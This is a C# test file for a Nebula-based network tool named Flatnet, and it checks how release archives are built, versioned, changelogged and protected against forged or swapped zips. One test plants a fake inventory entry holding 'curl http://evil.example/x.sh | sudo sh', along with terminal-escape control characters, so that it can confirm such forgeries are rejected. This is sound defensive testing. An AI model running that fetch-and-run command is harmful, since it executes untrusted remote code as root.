using Flatnet.Bundles;
namespace Flatnet.Tests;

[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
public class ReleasingTests
{
    private static string Entry(string zip, string name)
    {
        using var archive = System.IO.Compression.ZipFile.OpenRead(zip);
        using var reader = new StreamReader(archive.GetEntry(name)!.Open());
        return reader.ReadToEnd();
    }

    [Test]
    public void BundlesWithPrivateKeysNeedConsentAndThenStayOwnerOnly()
    {
        using var ws = new TestWorkspace();
        var e = Assert.Throws<FlatnetException>(() => ws.ControlPlane().Release("1.0.0"))!;
        Assert.That(e.Message, Does.Contain("host-a, host-b, host-c carry their private key").And.Contain("--include-keys"));
        Assert.That(Directory.Exists(Path.Combine(ws.Root, "artifacts", "releases")), Is.False);

        var release = ws.ControlPlane().Release("1.0.0", includeKeys: true);
        Assert.That(File.GetUnixFileMode(release.Path), Is.EqualTo(UnixFileMode.UserRead | UnixFileMode.UserWrite));
        Assert.That(Entry(release.Path, "release.json"), Does.Contain("\"contains_private_keys\": true"));
    }

    [Test]
    public void AReleaseIsReproducibleAndItsChangelogFollowsTheInventory()
    {
        using var ws = new TestWorkspace();
        var first = ws.ControlPlane().Release("1.0.0", includeKeys: true);
        Assert.That(first.Changes, Does.Contain("- first release").And.Contain("- host host-c: windows, 10.100.3.1/16, block 10.101.3.0/24, groups flatnet,gateway"));
        var bytes = File.ReadAllBytes(first.Path);

        Assert.That(ws.ControlPlane().Release("1.0.0", includeKeys: true).Written, Is.False, "same inventory, same version: nothing to write");
        Assert.That(File.ReadAllBytes(first.Path), Is.EqualTo(bytes));

        ws.Write("host-d.yaml", "name: host-d\nindex: 4\nos: windows\ndeploy:\n  transport: none\n");
        ws.Edit("host-c.yaml", "groups:", "groups: [flatnet]");
        var second = ws.ControlPlane().Release("1.1.0", includeKeys: true);
        Assert.That(second.Changes.Where(c => !c.Contains(" certificate ", StringComparison.Ordinal) && !c.Contains(" bundle ", StringComparison.Ordinal)), Is.EquivalentTo(new[]
        {
            "- added host host-d: windows, 10.100.4.1/16, block 10.101.4.0/24, groups flatnet,gateway",
            "- changed host host-c: windows, 10.100.3.1/16, block 10.101.3.0/24, groups flatnet,gateway -> windows, 10.100.3.1/16, block 10.101.3.0/24, groups flatnet",
        }));
        Assert.That(second.Changes.Where(c => c.Contains(" certificate ", StringComparison.Ordinal)).Select(c => c.Split(':')[0]),
            Is.EquivalentTo(new[] { "- added certificate host-d", "- changed certificate host-c" }), "host-c re-signed for its new groups, host-d signed");
        Assert.That(Entry(second.Path, "CHANGELOG.md"), Does.StartWith("# flatnet 1.1.0").And.Contain("- added host host-d"));
        using (var archive = System.IO.Compression.ZipFile.OpenRead(second.Path))
            Assert.That(archive.Entries.Select(x => x.FullName), Is.EquivalentTo(new[]
            {
                "CHANGELOG.md", "bundles/host-a.zip", "bundles/host-b.zip", "bundles/host-c.zip", "bundles/host-d.zip", "inventory.json", "release.json",
            }));

        var changed = Assert.Throws<FlatnetException>(() => ws.ControlPlane().Release("1.0.0", includeKeys: true))!;
        Assert.That(changed.Message, Does.Contain("release 1.0.0 already exists").And.Contain("a published version never changes"));
        Assert.That(File.ReadAllBytes(first.Path), Is.EqualTo(bytes));
    }

    [Test]
    public void AReleasesChangesAreSinceTheReleaseBeforeItInVersionOrder()
    {
        Assert.That(new[] { "1.0.0", "1.0.0-rc.10", "10.0.0", "2.0.0", "1.0.0-rc.2", "1.0.1-beta", "1.0.0-rc", "1.0.0-rc.x" }.Order(Comparer<string>.Create(global::Flatnet.Bundles.ReleaseArchive.CompareVersions)),
            Is.EqualTo(new[] { "1.0.0-rc", "1.0.0-rc.2", "1.0.0-rc.10", "1.0.0-rc.x", "1.0.0", "1.0.1-beta", "2.0.0", "10.0.0" }), "Semantic Versioning's precedence");
        foreach (var bad in new[] { "01.0.0", "1.2.0-rc.01", "1.1.0+build.7", "1.0", "1.0.0-", "1.0.0-rc..1", "1.0.0\n" }) // $ matched before a final line break
            Assert.That(global::Flatnet.Bundles.ReleaseArchive.VersionPattern().IsMatch(bad), Is.False, bad);

        using var ws = new TestWorkspace();
        ws.ControlPlane().Release("1.1.0", includeKeys: true);
        ws.Write("host-d.yaml", "name: host-d\nindex: 4\nos: windows\ndeploy:\n  transport: none\n");
        ws.ControlPlane().Release("2.0.0", includeKeys: true);
        // A fix released on the 1.x line after 2.0.0 is compared with 1.1.0, not with the newer 2.0.0.
        var fix = ws.ControlPlane().Release("1.1.1", includeKeys: true);
        Assert.That(ws.Log.Lines, Has.Some.Contains("changes since flatnet-1.1.0:"));
        Assert.That(fix.Changes, Does.Contain("- added host host-d: windows, 10.100.4.1/16, block 10.101.4.0/24, groups flatnet,gateway"));
        // Asked again, an earlier release is the same release: up to date, whatever came after it.
        File.Delete(Path.Combine(ws.Root, "hosts", "host-d.yaml"));
        Assert.That(ws.ControlPlane().Release("1.1.0", includeKeys: true).Written, Is.False);
    }

    [Test]
    public void AReleaseInspectsTheZipsItShipsNotTheFoldersBesideThem()
    {
        using var ws = new TestWorkspace();
        ws.ControlPlane().PackageAll();
        foreach (var h in new[] { "host-a", "host-b", "host-c" }) File.Delete(Path.Combine(ws.Workspace.BundleDirectory(h), "host.key"));
        var e = Assert.Throws<FlatnetException>(() => ws.ControlPlane().Release("1.0.0"))!;
        Assert.That(e.Message, Does.Contain("carry their private key"));
        Assert.That(Directory.Exists(Path.Combine(ws.Workspace.ArtifactsDirectory, "releases")), Is.False);
    }

    /// <summary>A zip swapped on disk between PackageAll's check and Release's read shipped in 3 of 5 races (battery 5).</summary>
    [Test]
    public void AZipSwappedAfterPackageAllCheckedItIsRefusedNeverShipped()
    {
        using var ws = new TestWorkspace();
        var packed = ws.ControlPlane().PackageAll().Single(p => p.Host == "host-b");
        using var context = new FlatnetContext(ws.Workspace, ws.Log);
        Assert.That(FleetRelease.Checked(context, packed), Is.EqualTo(File.ReadAllBytes(ws.Workspace.BundlePath("host-b"))), "the checked bytes ship");

        var zip = ws.Workspace.BundlePath("host-b");
        var forged = File.ReadAllBytes(zip);
        forged[^1] ^= 1;
        File.WriteAllBytes(zip, forged);
        var e = Assert.Throws<StateConflict>(() => FleetRelease.Checked(context, packed))!;
        Assert.That(e.Message, Does.Contain("host-b.zip changed on disk after PackageAll checked it").And.Contain("nothing was released"));
    }

    /// <summary>"The JSON value could not be converted to System.String. Path: $.a" was all a damaged previous release said (battery 5).</summary>
    [Test]
    public void APreviousReleaseWhoseSnapshotIsNotFlatnetsIsNamed()
    {
        using var ws = new TestWorkspace();
        var releases = ws.Workspace.ReleasesDirectory;
        Directory.CreateDirectory(releases);
        using (var zip = System.IO.Compression.ZipFile.Open(Path.Combine(releases, "flatnet-0.9.0.zip"), System.IO.Compression.ZipArchiveMode.Create))
        using (var w = new StreamWriter(zip.CreateEntry("inventory.json").Open()))
            w.Write("{\"a\": 1}");
        var e = Assert.Throws<FlatnetException>(() => ws.ControlPlane().Release("1.0.0", includeKeys: true))!;
        Assert.That(e.Message, Does.Contain("flatnet-0.9.0.zip is not a release of flatnet's (it has no release.json)").And.Contain("fix: move it out of"));
        Assert.That(e.Message, Does.Not.Contain("System."));
    }

    /// <summary>
    /// A zip named flatnet-1.0.1.zip holding only an inventory.json that listed a new host made a later release's
    /// changelog say "no inventory changes" (battery 16). The release before is believed only once it is checked
    /// against itself and its name, and the changelog names it with its SHA-256.
    /// </summary>
    [TestCase("a snapshot alone", "it has no release.json")]
    [TestCase("another version", "its release.json says 1.0.0")]
    [TestCase("control characters", "its inventory.json holds what no inventory snapshot of flatnet's has")]
    // Battery 30: a line added to an earlier release's inventory.json put "curl ... | sudo sh" into the next CHANGELOG.md.
    [TestCase("a command", "its inventory.json holds an entry no release of flatnet's writes (host evil)")]
    public void OnlyAReleaseCheckedAgainstItselfWritesTheNextOnesChangelog(string flaw, string said)
    {
        using var ws = new TestWorkspace();
        var first = ws.ControlPlane().Release("1.0.0", includeKeys: true);
        var forged = Path.Combine(ws.Workspace.ReleasesDirectory, "flatnet-1.0.1.zip");
        if (flaw == "another version") File.Copy(first.Path, forged);
        else CraftedRelease.Write(forged, new Dictionary<string, byte[]>(), version: "1.0.1",
            inventoryJson: flaw == "control characters" ? "{\"host h9\\u001b]0;x\\u0007\": \"x\\ny\"}"
                : flaw == "a command" ? "{\"host evil\": \"INJECTED: curl http://evil.example/x.sh | sudo sh\"}" : "{}",
            withReleaseJson: flaw != "a snapshot alone");
        var e = Assert.Throws<FlatnetException>(() => ws.ControlPlane().Release("1.0.2", includeKeys: true))!;
        Assert.That(e.Message, Does.Contain($"flatnet-1.0.1.zip is not a release of flatnet's ({said}"));
        Assert.That(File.Exists(Path.Combine(ws.Workspace.ReleasesDirectory, "flatnet-1.0.2.zip")), Is.False);

        File.Delete(forged);
        var second = ws.ControlPlane().Release("1.0.2", includeKeys: true);
        var sha = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(first.Path)));
        Assert.That(Entry(second.Path, "CHANGELOG.md"), Does.Contain($"Inventory changes since 1.0.0 (flatnet-1.0.0.zip, SHA-256 {sha}):"));
    }

    /// <summary>The changelog and inventory.json listed pc-10 before pc-2, the one place left in ordinal order (the first-hour walk).</summary>
    [Test]
    public void TheReleasesInventoryIsInTheOrderAPersonCounts()
    {
        using var ws = new TestWorkspace();
        ws.Write("pc-10.yaml", "name: pc-10\nindex: 10\nos: windows\n");
        ws.Write("pc-2.yaml", "name: pc-2\nindex: 12\nos: windows\n");
        var snapshot = ReleaseArchive.Snapshot(global::Flatnet.Addressing.AddressPlan.Load(ws.Workspace.InventoryDirectory));
        var hosts = snapshot.Keys.Where(k => k.StartsWith("host ", StringComparison.Ordinal)).ToList();
        Assert.That(hosts, Is.EqualTo(new[] { "host host-a", "host host-b", "host host-c", "host pc-2", "host pc-10" }));
        Assert.That(ReleaseArchive.Changelog(null, snapshot).Where(l => l.StartsWith("- host pc-", StringComparison.Ordinal)).Select(l => l.Split(':')[0]),
            Is.EqualTo(new[] { "- host pc-2", "- host pc-10" }));
        Assert.That(snapshot.Keys, Does.Contain("lighthouse").And.None.Contain("lighthouse lighthouse"), "named once, as every diagnosis names it");

        // The zip itself too (the first-hour audit): bundles/pc-2.zip before bundles/pc-10.zip.
        ws.ControlPlane().PackageAll();
        var release = ws.ControlPlane().Release("1.0.0", includeKeys: true);
        using var zip = System.IO.Compression.ZipFile.OpenRead(release.Path);
        Assert.That(zip.Entries.Select(e => e.FullName).Where(n => n.StartsWith("bundles/pc-", StringComparison.Ordinal)), Is.EqualTo(new[] { "bundles/pc-2.zip", "bundles/pc-10.zip" }));
    }

    /// <summary>A second CA made trusted (a forged rotation record naming another's ca.next.crt) shipped under "no inventory changes" (battery 18).</summary>
    [Test]
    public void TheCasEveryConfigTrustsAreInTheReleaseAndTheirChangeInItsChangelog()
    {
        using var ws = new TestWorkspace();
        var first = ws.ControlPlane().Release("1.0.0", includeKeys: true);
        var old = ws.ControlPlane().Context.NebulaCert.Print(Path.Combine(ws.Root, "pki", "ca.crt")).Fingerprint;
        Assert.That(first.Changes, Does.Contain($"- trusted CAs: {old}"));
        var other = Directory.CreateDirectory(Path.Combine(ws.Root, "other-ca")).FullName;
        global::Flatnet.Processes.ProcessRunner.Run("nebula-cert", ["ca", "-name", "someone else", "-out-crt", "ca.crt", "-out-key", "ca.key"], other).EnsureSuccess("nebula-cert ca");
        File.Copy(Path.Combine(other, "ca.crt"), Path.Combine(ws.Root, "pki", "ca.next.crt")); File.Copy(Path.Combine(other, "ca.key"), Path.Combine(ws.Root, "pki", "ca.next.key")); // a rotation whose files are all here (battery 36: without its key, none is trusted)
        var evil = ws.ControlPlane().Context.NebulaCert.Print(Path.Combine(other, "ca.crt")).Fingerprint;
        ws.Write("ca-rotation.json", $"{{\"old_fingerprint\": \"{old}\", \"new_fingerprint\": \"{evil}\", \"started\": \"2026-12-01T00:00:00Z\", \"phase\": 2}}");
        var second = ws.ControlPlane().Release("1.0.1", includeKeys: true);
        Assert.That(second.Changes, Does.Contain($"- changed trusted CAs: {old} -> {old}, {evil}"));

        // Battery 36: the record and the other CA's certificate alone (two text files a commit can bring) had every
        // config trust that CA. Without its key here, pairing with it, no config is made to trust it.
        File.Delete(Path.Combine(ws.Root, "pki", "ca.next.key"));
        var e = Assert.Catch<FlatnetException>(() => ws.ControlPlane().Release("1.0.2", includeKeys: true))!;
        Assert.That(e.Message, Does.Contain("ca.next.key is missing beside its other CA").And.Contain("no config is made to trust a CA whose key is not here"));
        File.Copy(Path.Combine(ws.Root, "pki", "ca.key"), Path.Combine(ws.Root, "pki", "ca.next.key"));
        Assert.That(Assert.Catch<FlatnetException>(() => ws.ControlPlane().Release("1.0.2", includeKeys: true))!.Message, Does.Contain("ca.next.key is not the key of its other CA"));
        Assert.That(File.Exists(Path.Combine(ws.Workspace.ReleasesDirectory, "flatnet-1.0.2.zip")), Is.False);
    }

    /// <summary>
    /// Battery 19: a host re-keyed between two releases shipped under "no inventory changes". The release records each
    /// host's certificate (key, validity, fingerprint), so its changelog names the change; a release from before this
    /// record is said once, not host by host.
    /// </summary>
    [Test]
    public void AHostReKeyedBetweenReleasesIsInTheChangelog()
    {
        using var ws = new TestWorkspace();
        var first = ws.ControlPlane().Release("1.0.0", includeKeys: true);
        var crt = Path.Combine(ws.Root, "artifacts", "hosts", "host-b", "pki", "host.crt");
        var before = ws.ControlPlane().Context.NebulaCert.Print(crt).PublicKey;
        Assert.That(first.Changes, Has.Some.StartsWith($"- certificate host-b: key {before[..16]}…, valid "));

        ws.ControlPlane().GenerateCert("host-b", force: true);
        var after = ws.ControlPlane().Context.NebulaCert.Print(crt).PublicKey;
        var second = ws.ControlPlane().Release("1.0.1", includeKeys: true);
        Assert.That(second.Changes.Select(c => c.Split(':')[0]), Is.EqualTo(new[] { "- changed bundle host-b", "- changed certificate host-b" }));
        Assert.That(second.Changes[1], Does.StartWith($"- changed certificate host-b: key {before[..16]}…").And.Contain($" -> key {after[..16]}…"));

        var older = new Dictionary<string, string>(ReleaseArchive.Snapshot(global::Flatnet.Addressing.AddressPlan.Load(ws.Workspace.InventoryDirectory)));
        var now = new SortedDictionary<string, string>(older) { ["certificate host-a"] = "key 00…", ["certificate host-b"] = "key 01…" };
        Assert.That(ReleaseArchive.Changelog(older, now), Is.EqualTo(new[] { "- certificates: recorded from this release on (each host's key, validity and fingerprint)" }));
    }

    /// <summary>
    /// Battery 24: a firewall rule opened to everyone shipped under "no inventory changes": the snapshot held the
    /// network, hosts, certificates and CAs, not what a bundle carries. Each bundle is recorded by its SHA-256, so any
    /// change in it is named (Plan --diff says what).
    /// </summary>
    [Test]
    public void AChangeInsideABundleIsNamedInTheChangelog()
    {
        using var ws = new TestWorkspace();
        ws.ControlPlane().Release("1.0.0", includeKeys: true);
        ws.Edit("network.yaml", "listen_port:", "listen_port: 4243");
        var second = ws.ControlPlane().Release("1.0.1", includeKeys: true);
        Assert.That(second.Changes.Where(c => c.StartsWith("- changed bundle ", StringComparison.Ordinal)).Select(c => c.Split(':')[0]),
            Is.EquivalentTo(new[] { "- changed bundle host-a", "- changed bundle host-b", "- changed bundle host-c" }));
        Assert.That(second.Changes, Has.None.EqualTo("- no inventory changes"));
    }
}
